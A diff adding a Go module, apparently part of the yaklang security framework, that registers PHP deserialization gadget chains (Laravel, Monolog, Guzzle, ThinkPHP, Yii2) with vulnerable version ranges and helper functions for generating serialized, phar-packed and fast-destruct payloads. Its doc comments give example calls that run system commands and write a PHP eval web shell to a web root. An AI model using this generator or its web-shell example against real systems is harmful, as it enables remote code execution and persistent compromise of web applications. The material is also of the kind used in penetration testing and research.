@@ -0,0 +1,216 @@
+package phpggc
+
+import (
+	"fmt"
+	"reflect"
+	"sort"
+	"strings"
+
+	"github.com/yaklang/yaklang/common/phpserx"
+	"github.com/yaklang/yaklang/common/utils"
+)
+
+const (
+	// ChainTypeRCE chains call function(parameter), the generator is func(function, parameter string) (*Payload, error)
+	ChainTypeRCE = "rce"
+	// ChainTypeFileWrite chains write content to path, the generator is func(path, content string) (*Payload, error)
+	ChainTypeFileWrite = "file_write"
+)
+
+// ChainInfo is the information of POP chain, the name is the same as phpggc such as Laravel/RCE1
+type ChainInfo struct {
+	Name      string
+	Type      string
+	Version   string
+	Vector    string
+	Help      string
+	YakFun    string
+	Generator any
+}
+
+func (c *ChainInfo) GetName() string {
+	return c.Name
+}
+
+func (c *ChainInfo) GetHelp() string {
+	return c.Help
+}
+
+var AllChains = map[string]*ChainInfo{}
+
+func init() {
+	registerChain(GetLaravelRCE1Payload, "Laravel/RCE1", ChainTypeRCE, "5.4.27", "__destruct", "PendingBroadcast with Faker\\Generator, requires fzaninotto/faker")
+	registerChain(GetLaravelRCE2Payload, "Laravel/RCE2", ChainTypeRCE, "5.4.0 <= 8.6.9+", "__destruct", "PendingBroadcast with Illuminate\\Events\\Dispatcher")
+	registerChain(GetLaravelRCE9Payload, "Laravel/RCE9", ChainTypeRCE, "5.4.0 <= 9.1.8+", "__destruct", "PendingBroadcast with the queue resolver of Illuminate\\Bus\\Dispatcher")
+	registerChain(GetMonologRCE1Payload, "Monolog/RCE1", ChainTypeRCE, "1.17 <= 2.2.0+", "__destruct", "SyslogUdpHandler with BufferHandler processors")
+	registerChain(GetGuzzleRCE1Payload, "Guzzle/RCE1", ChainTypeRCE, "6.0.0a1 <= 6.3.2", "__destruct", "FnStream calls HandlerStack::resolve")
+	registerChain(GetGuzzleFW1Payload, "Guzzle/FW1", ChainTypeFileWrite, "4.0.0-rc.2 <= 7.5.0+", "__destruct", "FileCookieJar saves the cookie to file, the content is json encoded")
+	registerChain(GetThinkPHPRCE1Payload, "ThinkPHP/RCE1", ChainTypeRCE, "5.1.x <= 5.2.x", "__destruct", "Windows pipes with Pivot::__toString and Request filter")
+	registerChain(GetYii2RCE1Payload, "Yii2/RCE1", ChainTypeRCE, "<= 2.0.37", "__destruct", "BatchQueryResult with Faker\\Generator and rest IndexAction")
+	registerChain(GetYii2RCE2Payload, "Yii2/RCE2", ChainTypeRCE, "2.0.38", "__destruct", "codeception RunProcess with Faker\\Generator and rest IndexAction")
+}
+
+func registerChain(generator any, name string, chainType string, version string, vector string, help string) {
+	switch generator.(type) {
+	case func(string, string) (*Payload, error):
+	default:
+		panic(fmt.Sprintf("chain %s generator must be func(string, string) (*Payload, error), got %v", name, reflect.TypeOf(generator)))
+	}
+	AllChains[name] = &ChainInfo{
+		Name:      name,
+		Type:      chainType,
+		Version:   version,
+		Vector:    vector,
+		Help:      help,
+		YakFun:    fmt.Sprintf("Get%sPayload", strings.ReplaceAll(name, "/", "")),
+		Generator: generator,
+	}
+}
+
+// Payload is the POP chain object, it is serialized by ToBytes or packed into phar by ToPhar
+type Payload struct {
+	phpserx.PHPSerializable
+	verbose *ChainInfo
+}
+
+func (p *Payload) Verbose() *ChainInfo {
+	return p.verbose
+}
+
+// Bytes return the php serialized payload
+func (p *Payload) Bytes() []byte {
+	return phpserx.MarshalPHPSerialized(p.PHPSerializable)
+}
+
+func newPayload(name string, obj phpserx.PHPSerializable) *Payload {
+	return &Payload{PHPSerializable: obj, verbose: AllChains[name]}
+}
+
+// GetAllChains return all chains sorted by name
+func GetAllChains() []*ChainInfo {
+	var chains []*ChainInfo
+	for _, chain := range AllChains {
+		chains = append(chains, chain)
+	}
+	sort.Slice(chains, func(i, j int) bool {
+		return chains[i].Name < chains[j].Name
+	})
+	return chains
+}
+
+// GetAllRCEChains return the chains which call function(parameter)
+func GetAllRCEChains() []*ChainInfo {
+	return getChainsByType(ChainTypeRCE)
+}
+
+// GetAllFileWriteChains return the chains which write content to file
+func GetAllFileWriteChains() []*ChainInfo {
+	return getChainsByType(ChainTypeFileWrite)
+}
+
+func getChainsByType(chainType string) []*ChainInfo {
+	var chains []*ChainInfo
+	for _, chain := range GetAllChains() {
+		if chain.Type == chainType {
+			chains = append(chains, chain)
+		}
+	}
+	return chains
+}
+
+// Generate generate the payload by chain name, the arguments of rce chain are function and parameter,
+// the function is system if only the parameter is given; the arguments of file write chain are path and content.
+// Example:
+// ```
+// payload = phpggc.Generate("Laravel/RCE1", "whoami")~
+// payload = phpggc.Generate("Monolog/RCE1", "assert", "phpinfo()")~
+// payload = phpggc.Generate("Guzzle/FW1", "/var/www/html/shell.php", "<?php eval($_POST[1]);?>")~
+// raw = phpggc.ToBytes(payload)~
+// ```
+func Generate(name string, args ...string) (*Payload, error) {
+	chain, ok := AllChains[name]
+	if !ok {
+		return nil, utils.Errorf("php chain %s not found", name)
+	}
+	if chain.Type == ChainTypeRCE && len(args) == 1 {
+		args = []string{"system", args[0]}
+	}
+	if len(args) != 2 {
+		return nil, utils.Errorf("php chain %s needs 2 arguments, got %d", name, len(args))
+	}
+	return chain.Generator.(func(string, string) (*Payload, error))(args[0], args[1])
+}
+
+// ToBytes serialize the payload
+// Example:
+// ```
+// payload = phpggc.GetLaravelRCE1Payload("system", "whoami")~
+// raw = phpggc.ToBytes(payload)~
+// ```
+func ToBytes(payload *Payload) ([]byte, error) {
+	if payload == nil || payload.PHPSerializable == nil {
+		return nil, utils.Error("php payload is empty")
+	}
+	return payload.Bytes(), nil
+}
+
+// ToPhar pack the payload into the metadata of phar, the payload is unserialized when the phar is accessed by phar://,
+// the options are php.pharStub, php.pharFile and php.pharAlias
+// Example:
+// ```
+// payload = phpggc.GetMonologRCE1Payload("system", "whoami")~
+// raw = phpggc.ToPhar(payload, php.pharStub("GIF89a"))~
+// ```
+func ToPhar(payload *Payload, options ...phpserx.PharOption) ([]byte, error) {
+	raw, err := ToBytes(payload)
+	if err != nil {
+		return nil, err
+	}
+	return phpserx.BuildPhar(raw, options...), nil
+}
+
+// FastDestruct wrap the payload in an array whose key is overwritten, the destructor is called right after unserialize()
+// rather than the end of script, which is useful when the script exits with error after unserialize()
+// Example:
+// ```
+// payload = phpggc.FastDestruct(phpggc.GetGuzzleRCE1Payload("system", "whoami")~)
+// raw = phpggc.ToBytes(payload)~
+// ```
+func FastDestruct(payload *Payload) *Payload {
+	wrapper := phpserx.NewPHPArray(
+		phpserx.NewPHPArrayEntry(phpserx.NewPHPInt(7), payload.PHPSerializable),
+		phpserx.NewPHPArrayEntry(phpserx.NewPHPInt(7), phpserx.NewPHPInt(7)),
+	)
+	return &Payload{PHPSerializable: wrapper, verbose: payload.verbose}
+}
+
+// Dump format the payload as readable text
+func Dump(payload *Payload) string {
+	return phpserx.Dump(payload.PHPSerializable)
+}
+
+// ToJson convert the payload to json, it can be modified and converted back by php.FromJson
+func ToJson(payload *Payload) ([]byte, error) {
+	return phpserx.ToJson(payload.PHPSerializable)
+}
+
+func checkFunction(function string) error {
+	if function == "" {
+		return utils.Error("php function is empty")
+	}
+	return nil
+}
+
+// fakerGenerator is the Faker\Generator, which calls formatters[method](...) in __call
+func fakerGenerator(method string, fn phpserx.PHPSerializable) *phpserx.PHPObject {
+	return phpserx.NewPHPObject(`Faker\Generator`,
+		phpserx.NewPHPProtectedProperty("formatters", phpserx.NewPHPArray(
+			phpserx.NewPHPArrayEntry(phpserx.NewPHPString(method), fn),
+		)),
+	)
+}
+
+// callable is the php callable array: [object, method]
+func callable(obj phpserx.PHPSerializable, method string) *phpserx.PHPArray {
+	return phpserx.NewPHPList(obj, phpserx.NewPHPString(method))
+}